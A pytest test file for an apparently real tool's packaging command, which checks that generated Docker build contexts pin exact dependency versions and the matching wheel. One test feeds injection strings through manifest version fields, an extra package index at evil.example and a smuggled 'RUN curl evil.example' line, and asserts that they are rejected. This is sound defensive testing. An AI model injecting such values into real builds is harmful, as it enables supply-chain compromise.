"""edgec package: the image installs the edgec that built the bundle (its wheel, in the build context)
and nothing unpinned; the runtimes at the versions the bundle's manifest records.

Docker is not run here: the tests read the build context as Docker would (COPY sources, RUN lines).
"""

from __future__ import annotations

import json
import re
import shutil
import zipfile
from pathlib import Path

import pytest
import tomllib

from edgec.compiler.config import BuildConfig
from edgec.compiler.pipeline import build
from edgec.core import errors
from tests.conftest import REPO
from tests.support.cli import assert_one_line_error, run_cli
from tests.support.models import make_calib, make_conv_onnx

pytest.importorskip("yaml")
pytest.importorskip("packaging")

PIN = re.compile(r"([a-z0-9][a-z0-9._-]*)==([0-9][0-9A-Za-z.+!-]*)(  # .*)?")


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("package")
    calib = make_calib(folder / "calib.npz")
    return build(BuildConfig(source=str(make_conv_onnx(folder / "tiny.onnx")), out=folder / "bundles",
                             precision="int8", calib=calib)).bundle_dir


@pytest.fixture(scope="module")
def packaged(bundle: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("deploy") / "deploy"
    proc = run_cli("package", str(bundle), "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    return out


def _pins(context: Path) -> dict[str, str]:
    pins = {}
    for line in (context / "requirements.txt").read_text().splitlines():
        if line.strip() and not line.startswith("#"):
            match = PIN.fullmatch(line)
            assert match, f"not an exact pin: {line!r}"
            pins[match[1]] = match[2]
    return pins


def _copied_files(dockerfile: str) -> list[str]:
    sources = []
    for line in dockerfile.splitlines():
        if line.startswith("COPY "):
            sources += line.split()[1:-1]
    return sources


def _with_toolchain(bundle: Path, folder: Path, **versions: str) -> Path:
    copy = shutil.copytree(bundle, folder / bundle.name)
    manifest = json.loads((copy / "manifest.json").read_text())
    manifest["toolchain"].update(versions)
    (copy / "manifest.json").write_text(json.dumps(manifest))
    return copy


def test_package_image_installs_the_wheel_in_its_context_and_only_exact_pins(bundle: Path, packaged: Path) -> None:
    dockerfile = (packaged / "Dockerfile").read_text()
    copied = _copied_files(dockerfile)
    wheels = [name for name in copied if name.endswith(".whl")]
    assert len(wheels) == 1 and (packaged / wheels[0]).is_file()
    assert all((packaged / name.rstrip("/")).exists() for name in copied)  # every COPY source is in the context
    installs = [part.strip() for line in dockerfile.replace("\\\n", " ").splitlines() if line.startswith("RUN ")
                for part in line[4:].split("&&") if "pip install" in part]
    assert installs == ["pip install --no-cache-dir --no-deps -r /tmp/edgec/requirements.txt",
                        f"pip install --no-cache-dir --no-deps /tmp/edgec/{wheels[0]}"]  # nothing resolved at build time
    toolchain = json.loads((bundle / "manifest.json").read_text())["toolchain"]
    assert dockerfile.splitlines()[1] == f"FROM python:{toolchain['python']}-slim"
    pins = _pins(packaged)
    assert pins["onnxruntime"] == toolchain["onnxruntime"] and pins["numpy"] == toolchain["numpy"]
    assert {"starlette", "uvicorn", "prometheus-client", "pyyaml", "pydantic", "pydantic-core", "anyio"} <= set(pins)
    assert "edgec" not in pins


def test_package_wheel_is_the_edgec_that_runs_here(bundle: Path, packaged: Path) -> None:
    wheel = next(packaged.glob("edgec-*.whl"))
    built_by = json.loads((bundle / "manifest.json").read_text())["toolchain"]["edgec"]
    assert wheel.name.startswith(f"edgec-{built_by}-")
    with zipfile.ZipFile(wheel) as archive:
        names = set(archive.namelist())
        assert archive.read("edgec/cloud_sync/serving/package.py") == (REPO / "cloud_sync/serving/package.py").read_bytes()
        assert archive.read("edgec/compiler/cli.py") == (REPO / "compiler/cli.py").read_bytes()
    package_dir = tomllib.loads((REPO / "pyproject.toml").read_text())["tool"]["setuptools"]["package-dir"]
    folders = set(package_dir.values())
    modules = [name.split("/", 1) for name in names if name.startswith("edgec/")]
    assert {name.split("/")[0] for _, name in modules} == folders  # no tests, nothing else
    assert all((REPO / name).is_file() for _, name in modules)  # nothing stale from an old build/ folder


def test_package_pins_the_runtime_version_the_bundle_recorded(bundle: Path, tmp_path: Path) -> None:
    older = _with_toolchain(bundle, tmp_path, onnxruntime="1.31.0", numpy="2.3.1")
    proc = run_cli("package", str(older), "--out", str(tmp_path / "deploy"))
    assert proc.returncode == 0, proc.stderr
    pins = _pins(tmp_path / "deploy")
    assert pins["onnxruntime"] == "1.31.0" and pins["numpy"] == "2.3.1"
    assert "onnxruntime==1.31.0  # the bundle's toolchain" in (tmp_path / "deploy" / "requirements.txt").read_text()


def test_package_refuses_a_toolchain_version_that_would_inject_lines(bundle: Path, tmp_path: Path) -> None:
    evil = _with_toolchain(bundle, tmp_path, onnxruntime="1.0 --extra-index-url http://evil.example/")
    proc = run_cli("package", str(evil), "--out", str(tmp_path / "deploy"))
    assert_one_line_error(proc, errors.EXIT_CONFIG, "onnxruntime", "not a version")
    evil = _with_toolchain(bundle, tmp_path / "py", python="3.11\nRUN curl evil.example")
    proc = run_cli("package", str(evil), "--out", str(tmp_path / "deploy"))
    assert_one_line_error(proc, errors.EXIT_CONFIG, "toolchain python")
    assert not (tmp_path / "deploy").exists() and sorted(p.name for p in tmp_path.iterdir()) == sorted([bundle.name, "py"])


def test_package_uses_the_wheel_given_with_wheel(bundle: Path, packaged: Path, tmp_path: Path) -> None:
    wheel = shutil.copy2(next(packaged.glob("edgec-*.whl")), tmp_path)
    proc = run_cli("package", str(bundle), "--out", str(tmp_path / "deploy"), "--wheel", str(wheel))
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "deploy" / Path(wheel).name).read_bytes() == Path(wheel).read_bytes()
    assert _pins(tmp_path / "deploy") == _pins(packaged)


def test_package_refuses_a_wheel_of_another_edgec_version(bundle: Path, packaged: Path, tmp_path: Path) -> None:
    other = tmp_path / "edgec-9.9.9-py3-none-any.whl"
    shutil.copy2(next(packaged.glob("edgec-*.whl")), other)
    proc = run_cli("package", str(bundle), "--out", str(tmp_path / "deploy"), "--wheel", str(other))
    assert_one_line_error(proc, errors.EXIT_CONFIG, "built by edgec", "edgec 9.9.9", "--wheel")
    proc = run_cli("package", str(bundle), "--out", str(tmp_path / "deploy"), "--wheel", str(tmp_path / "numpy-2.0-py3-none-any.whl"))
    assert_one_line_error(proc, errors.EXIT_CONFIG, "not found")
    assert not (tmp_path / "deploy").exists() and not list(tmp_path.glob(".deploy.tmp-*"))


def test_package_without_a_source_tree_or_wheel_says_to_pass_wheel(bundle: Path, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    from edgec.cloud_sync.serving import pins
    from edgec.cloud_sync.serving.package import write_package

    monkeypatch.setattr(pins, "find_source", lambda: None)  # as when edgec was installed from a wheel
    with pytest.raises(errors.ConfigError, match="installed from a wheel") as caught:
        write_package(bundle, tmp_path / "deploy")
    assert "--wheel PATH" in (caught.value.hint or "")
    assert list(tmp_path.iterdir()) == []
